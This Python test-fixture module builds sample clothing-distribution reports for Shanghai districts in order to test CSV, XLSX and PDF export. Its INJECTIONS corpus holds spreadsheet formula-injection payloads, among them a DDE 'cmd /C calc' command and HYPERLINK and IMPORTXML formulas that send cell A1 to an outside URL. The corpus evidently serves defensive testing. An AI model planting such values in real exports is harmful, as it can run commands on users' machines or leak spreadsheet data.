"""Reports to be shown, made up: every kind of column, texts that hurt, and readers of what was written."""

import csv
import io
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

from models.access import Language
from operations.rendering.csv_files import csv_chunks
from operations.rendering.xlsx import write_xlsx
from operations.reports.tables import (
    Column,
    Edge,
    End,
    Flows,
    Holds,
    Report,
    Words,
    count,
    grams,
    pieces,
    totals_of,
)

NOW = datetime(2026, 11, 23, 6, 2, 3, 456000, tzinfo=UTC)
DISTRICTS = (
    *(("310101", "黄浦区"), ("310104", "徐汇区"), ("310105", "长宁区"), ("310106", "静安区")),
    *(("310107", "普陀区"), ("310109", "虹口区"), ("310110", "杨浦区"), ("310112", "闵行区")),
)
#: One column of each kind.
EVERYTHING = (
    Column("id", Words("编号", "Id"), Holds.CODE),
    Column("name", Words("名称", "Name"), Holds.TEXT),
    Column("month", Words("月份", "Month"), Holds.MONTH),
    Column("day", Words("日期", "Day"), Holds.DAY),
    Column("at", Words("送达时间", "Delivered at"), Holds.INSTANT),
    Column("signed", Words("已签收", "Signed for"), Holds.YES_NO),
    count("bags", Words("袋数", "Bags")),
    pieces(),
    Column("people", Words("受益人次", "People reached"), Holds.PEOPLE, totalled=True),
    grams(),
    Column("share", Words("占比", "Share"), Holds.SHARE),
    Column("distance", Words("距离", "Distance"), Holds.METRES),
    Column("age", Words("在库", "In store"), Holds.DAYS),
)
FULL = (
    *("0012", "曹家渡街道", "2025-03", date(2025, 3, 1), NOW, True),
    *(3, 1234, 56, 7_654_321, 0.25, 1500, 2.5),
)
BLANK = tuple(None for _ in EVERYTHING)
#: Ten columns, as the ledger has them.
TEN = (
    *(EVERYTHING[0], replace(EVERYTHING[0], name="district"), EVERYTHING[1]),
    *(replace(EVERYTHING[0], name="category"), EVERYTHING[3]),
    *(replace(pieces(), name=f"n{n}") for n in range(5)),
)
#: What starts a formula, and what a formula may be that does harm.
SIGNS = tuple("=+-@\t\r\x00＝＋－＠﹦﹢﹣﹫")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"看")',
    "SUM(A1:A9)*2",
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '"quoted",second',
    "2\r\n=3+4",
)
INJECTIONS = tuple(
    f"{before}{sign}{payload}" for before in ("", " ", "\u200b") for sign in SIGNS for payload in PAYLOADS
)


def report_of(
    columns: Sequence[Column],
    rows: Sequence[tuple[Any, ...]],
    *,
    by: tuple[str, ...] = (),
    notes: Sequence[Words] = (Words("件数以签收为准。", "Pieces are those signed for."),),
) -> Report:
    """Return a report of these rows, of the year 2025."""
    return Report(
        "distribution",
        Words("发放报表", "Distribution report"),
        date(2025, 1, 1),
        date(2025, 12, 31),
        by,
        {"category": "clothing"},
        columns,
        rows,
        totals_of(columns, rows),
        NOW,
        NOW - timedelta(minutes=3),
        Words("2025 年的发放。", "What was handed out in 2025."),
        notes,
    )


def month_by_district(months: int = 12) -> Report:
    """Return what was handed out, by month and district: three printed pages a year."""
    columns = (
        Column("month", Words("月份", "Month"), Holds.MONTH, "#date+month"),
        Column("district", Words("区代码", "District code"), Holds.CODE, "#adm2+code"),
        Column("district_name", Words("区", "District"), Holds.TEXT, "#adm2+name"),
        pieces(hxl="#output+num"),
        grams(hxl="#output+num+grams"),
    )
    rows = [
        (f"2025-{month:02d}", code, name, 1000 + month * n, 1_234_567 * month + n)
        for month in range(1, months + 1)
        for n, (code, name) in enumerate(DISTRICTS)
    ]
    return report_of(columns, rows, by=("month", "district"))


def flows_between(*edges: Edge) -> Flows:
    """Return flows between ends that are called as their ids."""
    return Flows({end: End(end, "place") for edge in edges for end in edge[:2]}, edges, ())


def many_rows(rows: int) -> Iterator[tuple[Any, ...]]:
    """Give rows of ten columns, as the ledger has them."""
    first = date(2025, 1, 1)
    for n in range(rows):
        day = first + timedelta(days=n % 365)
        yield (
            *(f"{n:08d}", f"3101{n % 16:02d}", "静安区", f"clothing.{n % 12}", day),
            *(n % 97, n * 13 % 100_000, n % 7, n % 5, n % 3),
        )


def as_csv(report: Report, language: Language = "zh", *, bom: bool = False, titles: bool = False) -> bytes:
    """Return a report as one CSV file."""
    return b"".join(csv_chunks(report.columns, report.rows, language, bom=bom, titles=titles))


def read_csv(data: bytes) -> list[list[str]]:
    """Return the cells of a CSV file, header and all."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_xlsx(report: Report, language: Language = "zh") -> io.BytesIO:
    """Return a report as a workbook, ready to be read."""
    file = io.BytesIO()
    write_xlsx(report, report.rows, language, file)
    file.seek(0)
    return file


def pages_of(pdf: bytes) -> list[str]:
    """Return the text of each page, as a reader would copy it."""
    import pypdfium2

    document = pypdfium2.PdfDocument(pdf)
    texts = []
    for page in document:
        text = page.get_textpage()
        texts.append(text.get_text_range())
        text.close()
        page.close()
    document.close()
    return texts


def squeezed(text: str) -> str:
    """Return a text without blanks, which a page that wraps it does not keep."""
    return "".join(text.split())
